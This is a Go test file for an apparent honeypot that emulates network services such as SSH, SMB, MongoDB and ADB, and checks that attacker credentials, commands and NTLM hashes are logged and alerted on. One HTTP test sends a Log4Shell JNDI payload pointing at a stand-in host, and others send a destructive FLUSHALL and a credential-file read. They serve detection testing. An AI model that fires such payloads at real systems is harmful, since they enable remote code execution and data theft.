package services

import (
	"bufio"
	"bytes"
	"context"
	"encoding/base64"
	"encoding/binary"
	"fmt"
	"io"
	"log/slog"
	"net"
	"net/http"
	"net/url"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"golang.org/x/crypto/ssh"

	"github.com/mantis-sec/mantis/internal/config"
	"github.com/mantis-sec/mantis/internal/detect"
	"github.com/mantis-sec/mantis/internal/models"
	"github.com/mantis-sec/mantis/internal/storage"
)

// ─── helpers ────────────────────────────────────────────────────────────────

func testDeps(t *testing.T) (Deps, storage.Store) {
	t.Helper()
	logger := slog.New(slog.NewTextHandler(io.Discard, nil))
	store, err := storage.OpenSQLite(":memory:", logger)
	if err != nil {
		t.Fatalf("OpenSQLite: %v", err)
	}
	t.Cleanup(func() { store.Close() })

	eng := detect.NewEngine(store, "", nil, logger)
	t.Cleanup(func() { eng.Close() })

	return Deps{Store: store, Detect: eng, Log: logger}, store
}

// startService starts svc on an ephemeral port and returns its address.
func startService(t *testing.T, svc Service, addr func() string) string {
	t.Helper()
	ctx, cancel := context.WithCancel(context.Background())
	t.Cleanup(cancel)
	if err := svc.Start(ctx); err != nil {
		t.Fatalf("Start(%s): %v", svc.Name(), err)
	}
	t.Cleanup(func() { svc.Stop() })
	a := addr()
	if a == "" {
		t.Fatalf("service %s has no bound address", svc.Name())
	}
	return a
}

func dialService(t *testing.T, addr string) net.Conn {
	t.Helper()
	conn, err := net.Dial("tcp", addr)
	if err != nil {
		t.Fatalf("dial %s: %v", addr, err)
	}
	t.Cleanup(func() { conn.Close() })
	conn.SetDeadline(time.Now().Add(10 * time.Second))
	return conn
}

// waitEvents polls until at least n events match the query.
func waitEvents(t *testing.T, store storage.Store, q storage.EventQuery, n int) []models.Event {
	t.Helper()
	deadline := time.Now().Add(3 * time.Second)
	for {
		events, _, err := store.Events(context.Background(), q)
		if err != nil {
			t.Fatalf("Events: %v", err)
		}
		if len(events) >= n {
			return events
		}
		if time.Now().After(deadline) {
			t.Fatalf("got %d events matching %+v, want at least %d", len(events), q, n)
		}
		time.Sleep(20 * time.Millisecond)
	}
}

func expectLine(t *testing.T, r *bufio.Reader, prefix string) string {
	t.Helper()
	line, err := r.ReadString('\n')
	if err != nil {
		t.Fatalf("read line (want prefix %q): %v", prefix, err)
	}
	if !strings.HasPrefix(line, prefix) {
		t.Fatalf("got line %q, want prefix %q", strings.TrimSpace(line), prefix)
	}
	return strings.TrimSpace(line)
}

// readUntil consumes bytes until the accumulated output contains want.
func readUntil(t *testing.T, conn net.Conn, want string) string {
	t.Helper()
	var acc []byte
	buf := make([]byte, 256)
	for !strings.Contains(string(acc), want) {
		n, err := conn.Read(buf)
		if err != nil {
			t.Fatalf("read (accumulated %q, want %q): %v", acc, want, err)
		}
		acc = append(acc, buf[:n]...)
	}
	return string(acc)
}

// ─── fake shell ─────────────────────────────────────────────────────────────

func TestShellRespond(t *testing.T) {
	cases := []struct {
		command string
		want    string
	}{
		{"whoami", "root"},
		{"  whoami  ", "root"},
		{"uname -r", fakeShellResponses["uname"]},
		{"cd /tmp", ""},
		{"echo hello world", "hello world"},
		{"frobnicate", "-bash: frobnicate: command not found"},
		{"", ""},
	}
	for _, tc := range cases {
		if got := shellRespond(tc.command); got != tc.want {
			t.Errorf("shellRespond(%q) = %q, want %q", tc.command, got, tc.want)
		}
	}
}

// ─── ftp ────────────────────────────────────────────────────────────────────

func TestFTPCapturesLoginAndTransfer(t *testing.T) {
	deps, store := testDeps(t)
	svc := NewFTP(&config.ServiceConfig{Enabled: true, Port: 0}, deps)
	addr := startService(t, svc, svc.addr)

	conn := dialService(t, addr)
	r := bufio.NewReader(conn)

	expectLine(t, r, "220 FTP Server ready.")
	fmt.Fprintf(conn, "USER alice\r\n")
	expectLine(t, r, "331")
	fmt.Fprintf(conn, "PASS hunter2\r\n")
	expectLine(t, r, "230")
	fmt.Fprintf(conn, "RETR secrets.db\r\n")
	expectLine(t, r, "550")
	fmt.Fprintf(conn, "QUIT\r\n")
	expectLine(t, r, "221")

	auths := waitEvents(t, store, storage.EventQuery{Service: "ftp", Type: "auth_attempt"}, 2)
	var sawPassword bool
	for _, e := range auths {
		if e.Data["stage"] == "password" {
			sawPassword = true
			if e.Data["username"] != "alice" || e.Data["password"] != "hunter2" {
				t.Errorf("password event captured %v/%v", e.Data["username"], e.Data["password"])
			}
		}
	}
	if !sawPassword {
		t.Fatal("no password-stage auth event recorded")
	}

	transfers := waitEvents(t, store, storage.EventQuery{Service: "ftp", Type: "file_transfer"}, 1)
	if transfers[0].Data["filename"] != "secrets.db" || transfers[0].Data["direction"] != "download" {
		t.Errorf("transfer event = %v", transfers[0].Data)
	}

	alerts, err := store.Alerts(context.Background(), 10, false)
	if err != nil {
		t.Fatalf("Alerts: %v", err)
	}
	var sawCapture bool
	for _, a := range alerts {
		if a.RuleName == "payload_captured" {
			sawCapture = true
		}
	}
	if !sawCapture {
		t.Error("file transfer did not raise a payload_captured alert")
	}
}

// ─── telnet ─────────────────────────────────────────────────────────────────

func TestTelnetLoginAndShell(t *testing.T) {
	deps, store := testDeps(t)
	svc := NewTelnet(&config.ServiceConfig{Enabled: true, Port: 0}, deps)
	addr := startService(t, svc, svc.addr)

	conn := dialService(t, addr)
	readUntil(t, conn, "login: ")
	fmt.Fprintf(conn, "admin\r\n")
	readUntil(t, conn, "Password: ")
	fmt.Fprintf(conn, "toor\r\n")
	readUntil(t, conn, "$ ")
	fmt.Fprintf(conn, "whoami\r\n")
	out := readUntil(t, conn, "$ ")
	if !strings.Contains(out, "root") {
		t.Errorf("whoami output %q does not contain root", out)
	}
	fmt.Fprintf(conn, "exit\r\n")
	readUntil(t, conn, "logout")

	auths := waitEvents(t, store, storage.EventQuery{Service: "telnet", Type: "auth_attempt"}, 1)
	if auths[0].Data["username"] != "admin" || auths[0].Data["password"] != "toor" {
		t.Errorf("auth event = %v", auths[0].Data)
	}

	commands := waitEvents(t, store, storage.EventQuery{Service: "telnet", Type: "command"}, 2)
	var saw []string
	for _, e := range commands {
		saw = append(saw, fmt.Sprint(e.Data["command"]))
	}
	joined := strings.Join(saw, " ")
	if !strings.Contains(joined, "whoami") || !strings.Contains(joined, "exit") {
		t.Errorf("command events = %v", saw)
	}
}

// ─── redis ──────────────────────────────────────────────────────────────────

func TestRedisCapturesAuthAndThreats(t *testing.T) {
	deps, store := testDeps(t)
	svc := NewRedis(&config.ServiceConfig{Enabled: true, Port: 0}, deps)
	addr := startService(t, svc, svc.addr)

	conn := dialService(t, addr)
	r := bufio.NewReader(conn)

	io.WriteString(conn, "*2\r\n$4\r\nAUTH\r\n$6\r\nsecret\r\n")
	expectLine(t, r, "+OK")

	io.WriteString(conn, "GET user:admin\r\n")
	header := expectLine(t, r, "$")
	value := expectLine(t, r, "{")
	_ = header
	if !strings.Contains(value, "superadmin") {
		t.Errorf("GET user:admin returned %q", value)
	}

	io.WriteString(conn, "FLUSHALL\r\n")
	expectLine(t, r, "+OK")

	auths := waitEvents(t, store, storage.EventQuery{Service: "redis", Type: "auth_attempt"}, 1)
	if auths[0].Data["password"] != "secret" {
		t.Errorf("auth event = %v", auths[0].Data)
	}

	commands := waitEvents(t, store, storage.EventQuery{Service: "redis", Type: "command"}, 3)
	var sawDestructive bool
	for _, e := range commands {
		if e.Data["threat"] == "destructive_command" {
			sawDestructive = true
		}
	}
	if !sawDestructive {
		t.Error("FLUSHALL was not tagged as a destructive command")
	}
}

// ─── mysql ──────────────────────────────────────────────────────────────────

func TestMySQLHandshakeAndQueryCapture(t *testing.T) {
	deps, store := testDeps(t)
	svc := NewMySQL(&config.ServiceConfig{Enabled: true, Port: 0}, deps)
	addr := startService(t, svc, svc.addr)

	conn := dialService(t, addr)

	// Server greeting: protocol version 10 plus the banner string.
	header := make([]byte, 4)
	if _, err := io.ReadFull(conn, header); err != nil {
		t.Fatalf("read handshake header: %v", err)
	}
	plen := int(header[0]) | int(header[1])<<8 | int(header[2])<<16
	payload := make([]byte, plen)
	if _, err := io.ReadFull(conn, payload); err != nil {
		t.Fatalf("read handshake: %v", err)
	}
	if payload[0] != 0x0a {
		t.Fatalf("protocol version = 0x%02x, want 0x0a", payload[0])
	}
	if !bytes.Contains(payload, []byte("5.7.42")) {
		t.Errorf("handshake does not carry the default version banner")
	}

	// Handshake response with username "root".
	var auth bytes.Buffer
	binary.Write(&auth, binary.LittleEndian, uint32(0x000005ad)) // capabilities
	binary.Write(&auth, binary.LittleEndian, uint32(1<<24))      // max packet
	auth.WriteByte(0x21)
	auth.Write(make([]byte, 23))
	auth.WriteString("root")
	auth.WriteByte(0x00)
	conn.Write(mysqlPacket(1, auth.Bytes()))

	ok := make([]byte, 11)
	if _, err := io.ReadFull(conn, ok); err != nil {
		t.Fatalf("read auth OK: %v", err)
	}
	if ok[4] != 0x00 {
		t.Fatalf("auth response = 0x%02x, want OK (0x00)", ok[4])
	}

	// COM_QUERY
	conn.Write(mysqlPacket(0, append([]byte{comQuery}, "SELECT @@version"...)))
	first := make([]byte, 5)
	if _, err := io.ReadFull(conn, first); err != nil {
		t.Fatalf("read query response: %v", err)
	}
	if first[4] != 0x01 { // one column
		t.Errorf("column count = %d, want 1", first[4])
	}

	auths := waitEvents(t, store, storage.EventQuery{Service: "mysql", Type: "auth_attempt"}, 1)
	if auths[0].Data["username"] != "root" {
		t.Errorf("auth event = %v", auths[0].Data)
	}
	queries := waitEvents(t, store, storage.EventQuery{Service: "mysql", Type: "query"}, 1)
	if queries[0].Data["query"] != "SELECT @@version" {
		t.Errorf("query event = %v", queries[0].Data)
	}

	alerts, err := store.Alerts(context.Background(), 10, false)
	if err != nil {
		t.Fatalf("Alerts: %v", err)
	}
	var sawQueryAlert bool
	for _, a := range alerts {
		if a.RuleName == "mysql_query" {
			sawQueryAlert = true
		}
	}
	if !sawQueryAlert {
		t.Error("query did not raise a mysql_query alert")
	}
}

// ─── smtp ───────────────────────────────────────────────────────────────────

func TestSMTPAuthLoginAndData(t *testing.T) {
	deps, store := testDeps(t)
	svc := NewSMTP(&config.ServiceConfig{Enabled: true, Port: 0}, deps)
	addr := startService(t, svc, svc.addr)

	conn := dialService(t, addr)
	r := bufio.NewReader(conn)

	expectLine(t, r, "220")
	fmt.Fprintf(conn, "EHLO attacker.example\r\n")
	for {
		line := expectLine(t, r, "250")
		if strings.HasPrefix(line, "250 ") {
			break
		}
	}

	fmt.Fprintf(conn, "AUTH LOGIN\r\n")
	expectLine(t, r, "334 VXNlcm5hbWU6")
	fmt.Fprintf(conn, "%s\r\n", base64.StdEncoding.EncodeToString([]byte("admin")))
	expectLine(t, r, "334 UGFzc3dvcmQ6")
	fmt.Fprintf(conn, "%s\r\n", base64.StdEncoding.EncodeToString([]byte("pw123")))
	expectLine(t, r, "235")

	fmt.Fprintf(conn, "MAIL FROM:<spam@evil.example>\r\n")
	expectLine(t, r, "250")
	fmt.Fprintf(conn, "RCPT TO:<victim@corp.example>\r\n")
	expectLine(t, r, "250")
	fmt.Fprintf(conn, "DATA\r\n")
	expectLine(t, r, "354")
	fmt.Fprintf(conn, "Subject: hi\r\n\r\nbody\r\n.\r\n")
	expectLine(t, r, "250")
	fmt.Fprintf(conn, "QUIT\r\n")
	expectLine(t, r, "221")

	auths := waitEvents(t, store, storage.EventQuery{Service: "smtp", Type: "auth_attempt"}, 1)
	if auths[0].Data["username"] != "admin" || auths[0].Data["password"] != "pw123" {
		t.Errorf("auth event = %v", auths[0].Data)
	}

	mails := waitEvents(t, store, storage.EventQuery{Service: "smtp", Type: "request"}, 1)
	if mails[0].Data["sender"] != "spam@evil.example" {
		t.Errorf("mail event = %v", mails[0].Data)
	}
	if !strings.Contains(fmt.Sprint(mails[0].Data["body_preview"]), "Subject: hi") {
		t.Errorf("body preview = %v", mails[0].Data["body_preview"])
	}
}

// ─── http ───────────────────────────────────────────────────────────────────

func TestHTTPLoginPageAndCredentialCapture(t *testing.T) {
	deps, store := testDeps(t)
	svc := NewHTTP(&config.ServiceConfig{Enabled: true, Port: 0}, deps)
	addr := startService(t, svc, svc.addr)

	client := &http.Client{
		Timeout: 5 * time.Second,
		CheckRedirect: func(req *http.Request, via []*http.Request) error {
			return http.ErrUseLastResponse
		},
	}

	resp, err := client.Get("http://" + addr + "/admin")
	if err != nil {
		t.Fatalf("GET: %v", err)
	}
	page, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("GET status = %d", resp.StatusCode)
	}
	if !strings.Contains(string(page), "Admin Portal - Login") {
		t.Error("login page does not carry the default title")
	}

	resp, err = client.PostForm("http://"+addr+"/login", url.Values{
		"username": {"admin"}, "password": {"admin123"},
	})
	if err != nil {
		t.Fatalf("POST /login: %v", err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusFound || resp.Header.Get("Location") != "/?error=1" {
		t.Fatalf("POST /login = %d -> %q, want 302 -> /?error=1", resp.StatusCode, resp.Header.Get("Location"))
	}

	auths := waitEvents(t, store, storage.EventQuery{Service: "http", Type: "auth_attempt"}, 1)
	if auths[0].Data["username"] != "admin" || auths[0].Data["password"] != "admin123" {
		t.Errorf("auth event = %v", auths[0].Data)
	}
}

func TestHTTPThreatAnnotationAndAlert(t *testing.T) {
	deps, store := testDeps(t)
	svc := NewHTTP(&config.ServiceConfig{Enabled: true, Port: 0}, deps)
	addr := startService(t, svc, svc.addr)

	client := &http.Client{Timeout: 5 * time.Second}
	resp, err := client.Get("http://" + addr + "/search?q=" + url.QueryEscape("${jndi:ldap://evil.example/a}"))
	if err != nil {
		t.Fatalf("GET: %v", err)
	}
	io.Copy(io.Discard, resp.Body)
	resp.Body.Close()

	events := waitEvents(t, store, storage.EventQuery{Service: "http", Type: "request"}, 1)
	if _, ok := events[0].Data["threats"]; !ok {
		t.Errorf("request event carries no threats annotation: %v", events[0].Data)
	}

	alerts, err := store.Alerts(context.Background(), 10, false)
	if err != nil {
		t.Fatalf("Alerts: %v", err)
	}
	var sawThreat bool
	for _, a := range alerts {
		if a.RuleName == "http_threat" && a.Severity == models.SeverityCritical {
			sawThreat = true
		}
	}
	if !sawThreat {
		t.Error("log4shell probe did not raise a critical http_threat alert")
	}
}

// ─── smb ────────────────────────────────────────────────────────────────────

// smb2Request frames a minimal SMB2 request packet.
func smb2Request(command uint16, payload []byte) []byte {
	header := make([]byte, 64)
	copy(header, "\xfeSMB")
	binary.LittleEndian.PutUint16(header[4:], 64)
	binary.LittleEndian.PutUint16(header[12:], command)
	binary.LittleEndian.PutUint64(header[24:], 7) // message id
	return netBIOS(append(header, payload...))
}

// ntlmType3 builds an NTLMSSP AUTHENTICATE blob with the given identity.
func ntlmType3(domain, user, workstation string, ntHash []byte) []byte {
	fields := [][]byte{nil, ntHash, utf16le(domain), utf16le(user), utf16le(workstation)}

	var blob bytes.Buffer
	blob.Write([]byte("NTLMSSP\x00"))
	binary.Write(&blob, binary.LittleEndian, uint32(3))

	offset := 12 + 8*len(fields)
	var payload bytes.Buffer
	for _, f := range fields {
		binary.Write(&blob, binary.LittleEndian, uint16(len(f)))
		binary.Write(&blob, binary.LittleEndian, uint16(len(f)))
		binary.Write(&blob, binary.LittleEndian, uint32(offset))
		payload.Write(f)
		offset += len(f)
	}
	blob.Write(payload.Bytes())
	return blob.Bytes()
}

func TestSMBNegotiateAndNTLMCapture(t *testing.T) {
	deps, store := testDeps(t)
	svc := NewSMB(&config.ServiceConfig{Enabled: true, Port: 0}, deps)
	addr := startService(t, svc, svc.addr)

	conn := dialService(t, addr)

	conn.Write(smb2Request(smb2Negotiate, make([]byte, 36)))
	resp, err := readNetBIOS(conn)
	if err != nil {
		t.Fatalf("read negotiate response: %v", err)
	}
	if !bytes.HasPrefix(resp, []byte("\xfeSMB")) {
		t.Fatalf("negotiate response prefix = %x", resp[:4])
	}
	if dialect := binary.LittleEndian.Uint16(resp[64+4 : 64+6]); dialect != 0x0311 {
		t.Errorf("dialect = 0x%04x, want 0x0311", dialect)
	}

	// Type-1 NEGOTIATE token gets the challenge back.
	type1 := append([]byte("NTLMSSP\x00"), 1, 0, 0, 0)
	conn.Write(smb2Request(smb2SessionSetup, append(make([]byte, 24), type1...)))
	resp, err = readNetBIOS(conn)
	if err != nil {
		t.Fatalf("read challenge response: %v", err)
	}
	if status := binary.LittleEndian.Uint32(resp[8:12]); status != ntStatusMoreRequired {
		t.Fatalf("challenge status = 0x%08x, want STATUS_MORE_PROCESSING_REQUIRED", status)
	}
	if !bytes.Contains(resp, []byte("NTLMSSP\x00")) {
		t.Fatal("challenge response carries no NTLMSSP token")
	}

	// Type-3 AUTHENTICATE gets captured.
	ntHash := bytes.Repeat([]byte{0xab}, 24)
	type3 := ntlmType3("CORP", "jsmith", "WS01", ntHash)
	conn.Write(smb2Request(smb2SessionSetup, append(make([]byte, 24), type3...)))
	resp, err = readNetBIOS(conn)
	if err != nil {
		t.Fatalf("read auth response: %v", err)
	}
	if status := binary.LittleEndian.Uint32(resp[8:12]); status != ntStatusOK {
		t.Fatalf("auth status = 0x%08x, want 0", status)
	}

	events := waitEvents(t, store, storage.EventQuery{Service: "smb", Type: "ntlm_auth"}, 1)
	data := events[0].Data
	if data["domain"] != "CORP" || data["username"] != "jsmith" || data["workstation"] != "WS01" {
		t.Errorf("ntlm_auth identity = %v", data)
	}
	if data["nt_hash"] != strings.Repeat("ab", 24) {
		t.Errorf("nt_hash = %v", data["nt_hash"])
	}

	alerts, err := store.Alerts(context.Background(), 10, false)
	if err != nil {
		t.Fatalf("Alerts: %v", err)
	}
	var sawNTLM bool
	for _, a := range alerts {
		if a.RuleName == "ntlm_hash_captured" {
			sawNTLM = true
		}
	}
	if !sawNTLM {
		t.Error("NTLM capture did not raise an ntlm_hash_captured alert")
	}
}

// ─── mongodb ────────────────────────────────────────────────────────────────

func mongoOpQuery(requestID int32, collection string, doc bsonDoc) []byte {
	var body bytes.Buffer
	binary.Write(&body, binary.LittleEndian, int32(0)) // flags
	body.WriteString(collection)
	body.WriteByte(0x00)
	binary.Write(&body, binary.LittleEndian, int32(0)) // skip
	binary.Write(&body, binary.LittleEndian, int32(1)) // return
	body.Write(encodeBSON(doc))

	var msg bytes.Buffer
	binary.Write(&msg, binary.LittleEndian, int32(16+body.Len()))
	binary.Write(&msg, binary.LittleEndian, requestID)
	binary.Write(&msg, binary.LittleEndian, int32(0))
	binary.Write(&msg, binary.LittleEndian, int32(opQuery))
	msg.Write(body.Bytes())
	return msg.Bytes()
}

func mongoOpMsg(requestID int32, doc bsonDoc) []byte {
	body := encodeBSON(doc)
	var msg bytes.Buffer
	binary.Write(&msg, binary.LittleEndian, int32(16+4+1+len(body)))
	binary.Write(&msg, binary.LittleEndian, requestID)
	binary.Write(&msg, binary.LittleEndian, int32(0))
	binary.Write(&msg, binary.LittleEndian, int32(opMsg))
	binary.Write(&msg, binary.LittleEndian, int32(0))
	msg.WriteByte(0)
	msg.Write(body)
	return msg.Bytes()
}

// readMongoReply reads one server message and decodes its single document.
func readMongoReply(t *testing.T, conn net.Conn) bsonDoc {
	t.Helper()
	header := make([]byte, 16)
	if _, err := io.ReadFull(conn, header); err != nil {
		t.Fatalf("read reply header: %v", err)
	}
	msgLen := int(binary.LittleEndian.Uint32(header))
	body := make([]byte, msgLen-16)
	if _, err := io.ReadFull(conn, body); err != nil {
		t.Fatalf("read reply body: %v", err)
	}

	var docBytes []byte
	switch int32(binary.LittleEndian.Uint32(header[12:16])) {
	case opReply:
		docBytes = body[20:]
	case opMsg:
		docBytes = body[5:]
	default:
		t.Fatalf("unexpected reply opcode %d", binary.LittleEndian.Uint32(header[12:16]))
	}
	doc, err := decodeBSON(docBytes)
	if err != nil {
		t.Fatalf("decode reply: %v", err)
	}
	return doc
}

func TestMongoDBIsMasterAndSaslCapture(t *testing.T) {
	deps, store := testDeps(t)
	svc := NewMongoDB(&config.ServiceConfig{Enabled: true, Port: 0}, deps)
	addr := startService(t, svc, svc.addr)

	conn := dialService(t, addr)

	conn.Write(mongoOpQuery(1, "admin.$cmd", bsonDoc{{"ismaster", int32(1)}}))
	reply := readMongoReply(t, conn)
	if v, _ := reply.get("ismaster"); v != true {
		t.Errorf("ismaster reply = %v", reply)
	}
	if v, _ := reply.get("maxWireVersion"); v != int32(21) {
		t.Errorf("maxWireVersion = %v", v)
	}

	conn.Write(mongoOpMsg(2, bsonDoc{
		{"saslStart", int32(1)},
		{"mechanism", "SCRAM-SHA-256"},
		{"$db", "admin"},
	}))
	reply = readMongoReply(t, conn)
	if v, _ := reply.get("done"); v != false {
		t.Errorf("saslStart reply = %v", reply)
	}

	conn.Write(mongoOpMsg(3, bsonDoc{{"listDatabases", int32(1)}, {"$db", "admin"}}))
	reply = readMongoReply(t, conn)
	if !strings.Contains(reply.String(), "production") {
		t.Errorf("listDatabases reply carries no honeytoken databases: %v", reply)
	}

	auths := waitEvents(t, store, storage.EventQuery{Service: "mongodb", Type: "auth_attempt"}, 1)
	if auths[0].Data["mechanism"] != "SCRAM-SHA-256" || auths[0].Data["db"] != "admin" {
		t.Errorf("auth event = %v", auths[0].Data)
	}
	waitEvents(t, store, storage.EventQuery{Service: "mongodb", Type: "query"}, 3)
}

// ─── vnc ────────────────────────────────────────────────────────────────────

func TestVNCChallengeCapture(t *testing.T) {
	deps, store := testDeps(t)
	svc := NewVNC(&config.ServiceConfig{Enabled: true, Port: 0}, deps)
	addr := startService(t, svc, svc.addr)

	conn := dialService(t, addr)

	version := make([]byte, 12)
	if _, err := io.ReadFull(conn, version); err != nil {
		t.Fatalf("read server version: %v", err)
	}
	if string(version) != "RFB 003.008\n" {
		t.Fatalf("server version = %q", version)
	}
	conn.Write([]byte("RFB 003.008\n"))

	security := make([]byte, 2)
	if _, err := io.ReadFull(conn, security); err != nil {
		t.Fatalf("read security types: %v", err)
	}
	if security[0] != 1 || security[1] != 2 {
		t.Fatalf("security types = %v, want [1 2]", security)
	}
	conn.Write([]byte{2})

	challenge := make([]byte, 16)
	if _, err := io.ReadFull(conn, challenge); err != nil {
		t.Fatalf("read challenge: %v", err)
	}
	conn.Write(bytes.Repeat([]byte{0x42}, 16))

	status := make([]byte, 4)
	if _, err := io.ReadFull(conn, status); err != nil {
		t.Fatalf("read security result: %v", err)
	}
	if binary.BigEndian.Uint32(status) != 0 {
		t.Fatalf("security result = %v, want OK", status)
	}

	conn.Write([]byte{1}) // ClientInit, shared
	init := make([]byte, 24)
	if _, err := io.ReadFull(conn, init); err != nil {
		t.Fatalf("read ServerInit: %v", err)
	}
	if w := binary.BigEndian.Uint16(init[0:2]); w != 1024 {
		t.Errorf("framebuffer width = %d, want 1024", w)
	}
	nameLen := binary.BigEndian.Uint32(init[20:24])
	name := make([]byte, nameLen)
	if _, err := io.ReadFull(conn, name); err != nil {
		t.Fatalf("read desktop name: %v", err)
	}
	if string(name) != "prod-workstation:0" {
		t.Errorf("desktop name = %q", name)
	}

	auths := waitEvents(t, store, storage.EventQuery{Service: "vnc", Type: "auth_attempt"}, 1)
	if auths[0].Data["response"] != strings.Repeat("42", 16) {
		t.Errorf("captured response = %v", auths[0].Data["response"])
	}
}

// ─── adb ────────────────────────────────────────────────────────────────────

func readADBMessage(t *testing.T, conn net.Conn) (command, arg0, arg1 uint32, payload []byte) {
	t.Helper()
	header := make([]byte, 24)
	if _, err := io.ReadFull(conn, header); err != nil {
		t.Fatalf("read adb header: %v", err)
	}
	command = binary.LittleEndian.Uint32(header[0:4])
	arg0 = binary.LittleEndian.Uint32(header[4:8])
	arg1 = binary.LittleEndian.Uint32(header[8:12])
	if n := binary.LittleEndian.Uint32(header[12:16]); n > 0 {
		payload = make([]byte, n)
		if _, err := io.ReadFull(conn, payload); err != nil {
			t.Fatalf("read adb payload: %v", err)
		}
	}
	return
}

func TestADBConnectAndShellExec(t *testing.T) {
	deps, store := testDeps(t)
	svc := NewADB(&config.ServiceConfig{Enabled: true, Port: 0}, deps)
	addr := startService(t, svc, svc.addr)

	conn := dialService(t, addr)

	conn.Write(adbMessage(adbCnxn, adbVersion, adbMaxData, []byte("host::features=cmd\x00")))
	command, _, _, payload := readADBMessage(t, conn)
	if command != adbCnxn {
		t.Fatalf("connect reply command = 0x%x, want CNXN", command)
	}
	if !strings.Contains(string(payload), "Pixel 7") {
		t.Errorf("device banner = %q", payload)
	}

	conn.Write(adbMessage(adbOpen, 5, 0, []byte("shell:whoami\x00")))
	command, _, _, _ = readADBMessage(t, conn)
	if command != adbOkay {
		t.Fatalf("open reply = 0x%x, want OKAY", command)
	}
	command, _, _, payload = readADBMessage(t, conn)
	if command != adbWrte || strings.TrimSpace(string(payload)) != "root" {
		t.Fatalf("exec reply = 0x%x %q", command, payload)
	}
	command, _, _, _ = readADBMessage(t, conn)
	if command != adbClse {
		t.Fatalf("stream close = 0x%x, want CLSE", command)
	}

	commands := waitEvents(t, store, storage.EventQuery{Service: "adb", Type: "command"}, 2)
	var sawExec bool
	for _, e := range commands {
		if e.Data["mode"] == "exec" && e.Data["command"] == "whoami" {
			sawExec = true
		}
	}
	if !sawExec {
		t.Error("shell exec command was not recorded")
	}
}

func TestADBRespond(t *testing.T) {
	if got := adbRespond("whoami"); got != "root" {
		t.Errorf("whoami = %q", got)
	}
	if got := adbRespond("echo pwned"); got != "pwned" {
		t.Errorf("echo = %q", got)
	}
	if got := adbRespond("frobnicate"); got != "/system/bin/sh: frobnicate: not found" {
		t.Errorf("unknown = %q", got)
	}
}

// ─── ssh ────────────────────────────────────────────────────────────────────

func TestSSHPasswordCaptureAndExec(t *testing.T) {
	deps, store := testDeps(t)
	cfg := &config.ServiceConfig{
		Enabled: true,
		Port:    0,
		Extra: map[string]any{
			"host_key_path": filepath.Join(t.TempDir(), "host_key"),
		},
	}
	svc := NewSSH(cfg, deps)
	addr := startService(t, svc, svc.addr)

	client, err := ssh.Dial("tcp", addr, &ssh.ClientConfig{
		User:            "root",
		Auth:            []ssh.AuthMethod{ssh.Password("letmein")},
		HostKeyCallback: ssh.InsecureIgnoreHostKey(),
		Timeout:         5 * time.Second,
	})
	if err != nil {
		t.Fatalf("ssh dial: %v", err)
	}
	defer client.Close()

	if v := string(client.ServerVersion()); v != "SSH-2.0-OpenSSH_8.9p1 Ubuntu-3ubuntu0.6" {
		t.Errorf("server version = %q", v)
	}

	sess, err := client.NewSession()
	if err != nil {
		t.Fatalf("new session: %v", err)
	}
	out, err := sess.Output("cat credentials.txt")
	sess.Close()
	if err != nil {
		t.Fatalf("exec: %v", err)
	}
	if !strings.Contains(string(out), "P@ssw0rd2024!") {
		t.Errorf("exec output = %q, want honeytoken credentials", out)
	}

	auths := waitEvents(t, store, storage.EventQuery{Service: "ssh", Type: "auth_attempt"}, 1)
	if auths[0].Data["username"] != "root" || auths[0].Data["password"] != "letmein" {
		t.Errorf("auth event = %v", auths[0].Data)
	}

	commands := waitEvents(t, store, storage.EventQuery{Service: "ssh", Type: "command"}, 1)
	if commands[0].Data["command"] != "cat credentials.txt" {
		t.Errorf("command event = %v", commands[0].Data)
	}
}

// ─── bson ───────────────────────────────────────────────────────────────────

func TestBSONRoundTrip(t *testing.T) {
	in := bsonDoc{
		{"find", "users"},
		{"limit", int32(10)},
		{"total", int64(3297280)},
		{"ok", 1.0},
		{"nested", bsonDoc{{"a", true}, {"b", nil}}},
	}
	out, err := decodeBSON(encodeBSON(in))
	if err != nil {
		t.Fatalf("decode: %v", err)
	}
	if out.command() != "find" || out.getString("find") != "users" {
		t.Errorf("round trip lost the command: %v", out)
	}
	if v, _ := out.get("limit"); v != int32(10) {
		t.Errorf("limit = %v", v)
	}
	if v, _ := out.get("total"); v != int64(3297280) {
		t.Errorf("total = %v", v)
	}
	nested, _ := out.get("nested")
	sub, ok := nested.(bsonDoc)
	if !ok {
		t.Fatalf("nested = %T", nested)
	}
	if v, _ := sub.get("a"); v != true {
		t.Errorf("nested.a = %v", v)
	}
}

func TestBSONRejectsGarbage(t *testing.T) {
	if _, err := decodeBSON([]byte{0x01, 0x02}); err == nil {
		t.Error("short document accepted")
	}
	if _, err := decodeBSON([]byte{0xff, 0xff, 0xff, 0xff, 0x00}); err == nil {
		t.Error("absurd length accepted")
	}
}

// ─── factory ────────────────────────────────────────────────────────────────

func TestNewCoversAllServices(t *testing.T) {
	deps, _ := testDeps(t)
	for _, name := range config.ServiceNames {
		svc, err := New(name, &config.ServiceConfig{Enabled: true, Port: 1}, deps)
		if err != nil {
			t.Errorf("New(%q): %v", name, err)
			continue
		}
		if svc.Name() != name {
			t.Errorf("New(%q).Name() = %q", name, svc.Name())
		}
	}
	if _, err := New("gopher", &config.ServiceConfig{}, deps); err == nil {
		t.Error("unknown service accepted")
	}
}
